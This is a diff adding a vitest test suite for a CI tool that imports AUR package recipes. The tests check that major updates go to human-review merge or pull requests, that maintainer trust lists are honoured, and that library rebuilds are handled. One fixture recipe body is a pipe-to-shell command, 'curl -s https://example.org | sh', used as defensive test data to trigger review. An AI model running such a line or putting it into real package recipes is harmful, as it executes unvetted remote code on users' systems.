@@ -1,0 +1,222 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { folderOf, type Files, recipe, type RecipeWishes, RecipeWorld } from './recipe-world.ts';
+
+let world: RecipeWorld;
+afterEach(() => world.dispose());
+
+const aur = 'CI_PKGBUILD_SOURCE=aur\n';
+const major: RecipeWishes = { pkgver: '2', body: 'curl -s https://example.org | sh' };
+const branch = 'refs/heads/update-foo';
+
+/** A world with reviews and an update of `foo` in the AUR. */
+async function proposing(
+  wishes: RecipeWishes = major,
+  given: { readonly settings?: Readonly<Record<string, string>>; readonly files?: Files; readonly config?: string } = {},
+): Promise<RecipeWorld> {
+  const { settings = { CI_HUMAN_REVIEW: 'true' }, files = {}, config = aur } = given;
+  const made = await RecipeWorld.open({ ...folderOf('foo', config), ...files }, settings);
+  made.pushToAur('foo', recipe('foo', wishes), { modified: 2, maintainer: 'a', coMaintainers: ['b'] });
+  return made;
+}
+
+describe('a major change', () => {
+  it('M14 is taken over silently where nobody reviews', async () => {
+    world = await proposing(major, { settings: {} });
+    expect((await world.run()).delivered).toEqual(['foo']);
+    expect(world.tip(branch)).toBe('');
+  });
+
+  it('R01 goes to a branch and a merge request of its own, and minor ones go to main', async () => {
+    world = await proposing(major, {
+      settings: { CI_HUMAN_REVIEW: 'true', CI_HUMAN_REVIEW_ASSIGNEE: 'reviewer' },
+      files: folderOf('bar', aur),
+    });
+    world.pushToAur('bar', recipe('bar', { pkgver: '2' }), { modified: 2 });
+    const { report, delivered } = await world.run();
+    expect(delivered).toEqual(['bar']);
+    expect(world.subjects()).toEqual(['chore(update): bar', 'init']);
+    expect(world.subjects('update-foo')).toEqual(['chore(update): foo', 'init']);
+    expect(world.git(world.remote, 'diff', '--name-only', 'main~1', 'update-foo').split('\n')).toEqual([
+      'foo/.SRCINFO',
+      'foo/PKGBUILD',
+    ]);
+    expect(world.show('state', 'foo')).toContain('CI_PKGBUILD_TIMESTAMP=2\n');
+    expect(world.show('state', 'bar')).toContain('CI_PKGBUILD_TIMESTAMP=2\n');
+    expect(world.gitlab.kept).toMatchObject([
+      {
+        branch: 'update-foo',
+        target: 'main',
+        title: 'chore(update): foo',
+        labels: ['ci', 'human-review', 'update'],
+        assignees: [7],
+        description: expect.stringMatching(/requires human review[\s\S]*curl[\s\S]*upstream project/),
+      },
+    ]);
+    expect(report.reviews).toEqual({ open: 1, closed: [] });
+    expect(report.packages.find(({ name }) => name === 'foo')?.review?.url).toContain('/merge_requests/1');
+  });
+
+  it('R01 becomes a pull request at GitHub', async () => {
+    world = await proposing();
+    world.service = 'github';
+    await world.run();
+    expect(world.github.kept).toMatchObject([
+      { branch: 'update-foo', title: 'chore(update): foo', labels: ['ci', 'human-review', 'update'] },
+    ]);
+    expect(world.subjects('update-foo')[0]).toBe('chore(update): foo');
+  });
+
+  it('R02 is proposed once, however often the run comes by', async () => {
+    world = await proposing();
+    await world.run();
+    const proposed = world.tip(branch);
+    await world.later(3_600_000);
+    await world.run();
+    const requests = world.gitlab.heard.length;
+    await world.later(3_600_000);
+    await world.run();
+    expect(world.tip(branch)).toBe(proposed);
+    expect(world.gitlab.heard.filter(({ method }) => method === 'POST')).toHaveLength(1);
+    // its address is known by now
+    expect(world.gitlab.heard).toHaveLength(requests);
+    expect(world.checks()['foo']).toMatchObject({ review: { branch: 'update-foo', url: expect.any(String) } });
+    // touched upstream without a change: the branch is as it should be
+    world.aur.set('foo', { modified: 3, maintainer: 'a', coMaintainers: ['b'] });
+    await world.run();
+    expect(world.tip(branch)).toBe(proposed);
+  });
+
+  it('is proposed anew, in the same request, when upstream goes on', async () => {
+    world = await proposing();
+    await world.run();
+    const proposed = world.tip(branch);
+    world.pushToAur('foo', recipe('foo', { ...major, pkgver: '3' }), { modified: 3, maintainer: 'z' });
+    await world.run();
+    expect(world.tip(branch)).not.toBe(proposed);
+    expect(world.show('update-foo', 'foo/PKGBUILD')).toContain('pkgver=3');
+    expect(world.gitlab.kept).toHaveLength(1);
+    // who stands behind it changed since the last look
+    expect(world.gitlab.kept[0]?.description).toMatch(/\bz\b/);
+  });
+
+  it('is proposed by a later run when the forge was not there', async () => {
+    world = await proposing();
+    const down = { status: 500, body: {} };
+    world.gitlab.first.push(down, down, down, down, down, down, down, down);
+    const { report, failure } = await world.run();
+    expect(failure).toBeUndefined();
+    expect(report.problems).toMatchObject([{ code: 'CIS008', severity: 'error' }]);
+    expect(world.tip(branch)).not.toBe('');
+    world.gitlab.first.length = 0;
+    await world.run();
+    expect(world.gitlab.kept).toMatchObject([{ branch: 'update-foo' }]);
+  });
+
+  it('waits on its branch where there is no token, or no forge at all', async () => {
+    world = await proposing();
+    const { report } = await world.run({ variables: { ACCESS_TOKEN: '' } });
+    expect(report.problems).toMatchObject([{ code: 'CIS008', severity: 'error', what: expect.stringContaining('ACCESS_TOKEN') }]);
+    world.service = 'none';
+    const local = await world.run();
+    expect(local.report.problems).toMatchObject([{ code: 'CIS008', severity: 'warning' }]);
+    expect(world.tip(branch)).not.toBe('');
+  });
+
+  it('R03 is withdrawn when a minor change takes its place, in the same push', async () => {
+    world = await proposing();
+    await world.run();
+    world.pushToAur('foo', recipe('foo', { pkgver: '3' }), { modified: 3 });
+    world.hook('reference-transaction', 'test "$1" = committed && { cat; echo --; } >> "$GIT_DIR/moved"; exit 0');
+    const { delivered, report } = await world.run();
+    expect(delivered).toEqual(['foo']);
+    expect(world.tip(branch)).toBe('');
+    expect(report.reviews).toEqual({ open: 0, closed: ['foo'] });
+    const { readFileSync } = await import('node:fs');
+    const pushes = readFileSync(`${world.remote}/moved`, 'utf8').split('--\n');
+    const together = pushes.find((text) => text.includes('refs/heads/main'));
+    expect(together).toContain('refs/heads/update-foo');
+    expect(together).toContain('refs/heads/state');
+    expect(world.checks()['foo']).not.toHaveProperty('review');
+  });
+
+  it('R07 is built once when it is merged, and its branch goes where the forge left it', async () => {
+    world = await proposing();
+    await world.run();
+    world.git(world.desk, 'fetch', '--quiet', 'origin', 'main', 'update-foo');
+    world.git(world.desk, 'checkout', '--quiet', '--detach', 'FETCH_HEAD');
+    world.git(world.desk, 'fetch', '--quiet', 'origin', 'update-foo');
+    world.git(world.desk, 'merge', '--quiet', '--no-ff', '--message', 'Merge branch update-foo', 'FETCH_HEAD');
+    world.git(world.desk, 'push', '--quiet', 'origin', 'HEAD:main');
+    expect((await world.onCommit()).packages).toEqual([{ name: 'foo' }]);
+    const { failure, delivered, report } = await world.run();
+    expect(failure).toBeUndefined();
+    expect(delivered).toEqual([]);
+    expect(report.reviews.closed).toEqual(['foo']);
+    expect(world.manager.names()).toEqual(['foo']);
+    expect(world.tip(branch)).toBe('');
+  });
+
+  it('R08 is found among a hundred and fifty others', async () => {
+    world = await proposing();
+    for (let index = 0; index < 149; index += 1) world.gitlab.keep(`other-${index}`);
+    world.gitlab.keep('update-foo');
+    const { report } = await world.run();
+    expect(world.gitlab.kept).toHaveLength(150);
+    expect(report.packages[0]?.review?.url).toContain('/merge_requests/150');
+  });
+});
+
+describe('trust', () => {
+  it.each([
+    ['R04 of all who maintain it, whatever the case', 'A\nb\n', undefined],
+    ['R04 of one of two', 'a\n', 'not trusted: b'],
+    ['R04 of a name that is commented out', '#a\nb\n', 'not trusted: a'],
+  ])('%s decides', async (_title, list, reason) => {
+    world = await proposing(major, { files: { '.ci/aur-maintainers': list } });
+    const { report } = await world.run({ dryRun: true });
+    expect(report.packages).toMatchObject([
+      reason === undefined
+        ? { decision: 'commit' }
+        : { decision: 'review', because: expect.stringContaining(reason) },
+    ]);
+  });
+
+  it('R04 R05 is in nobody who is not there, and in no name that only looks alike', async () => {
+    world = await proposing(major, { files: { '.ci/aur-maintainers': 'figue\na\n', ...folderOf('bar', aur) } });
+    world.aur.set('foo', { modified: 2, maintainer: 'f.gue' });
+    world.pushToAur('bar', recipe('bar', major), { modified: 2, maintainer: null });
+    const { report } = await world.run({ dryRun: true });
+    expect(report.packages.map(({ decision, because }) => [decision, because.replace(/.*not trusted: /, '')])).toEqual([
+      ['review', 'no maintainer (orphaned)'],
+      ['review', 'f.gue'],
+    ]);
+  });
+
+  it('R06 is not in an address because it is no name of the AUR', async () => {
+    world = await RecipeWorld.open({}, { CI_HUMAN_REVIEW: 'true', CI_TRUSTED_SOURCES: 'git.example.org/team' });
+    for (const name of ['x', 'y']) world.pushUpstream(name, recipe(name, major));
+    const one = world.urlOf('x');
+    world.commit(folderOf('x', `CI_PKGBUILD_SOURCE=${one}\n`));
+    const { report } = await world.run();
+    expect(report.packages).toMatchObject([{ decision: 'review', because: expect.stringContaining(one) }]);
+  });
+});
+
+describe('a rebuild for libraries', () => {
+  it('goes to main though the new recipe has to be reviewed', async () => {
+    const settings = { CI_HUMAN_REVIEW: 'true' };
+    world = await proposing({}, { settings, config: `${aur}CI_REBUILD_TRIGGERS=icu\n` });
+    const database = world.publish('extra.db', ['icu:76-1', 'foo:1-1']);
+    world.commit({ '.ci/config': world.config({ ...settings, CI_LIB_DB: database }) });
+    await world.run();
+    world.publish('extra.db', ['icu:77-1', 'foo:1-1']);
+    world.pushToAur('foo', recipe('foo', major), { modified: 3, maintainer: 'a' });
+    const { delivered, report } = await world.run();
+    expect(report.packages).toMatchObject([{ decision: 'review' }]);
+    expect(delivered).toEqual(['foo']);
+    expect(world.show('main', 'foo/.CI/config')).toContain('CI_PACKAGE_BUMP=1-1/1\n');
+    expect(world.show('main', 'foo/PKGBUILD')).toContain('pkgver=1\n');
+    expect(world.show('update-foo', 'foo/PKGBUILD')).toContain('pkgver=2\n');
+    expect(world.show('update-foo', 'foo/.CI/config')).not.toContain('CI_PACKAGE_BUMP');
+  });
+});
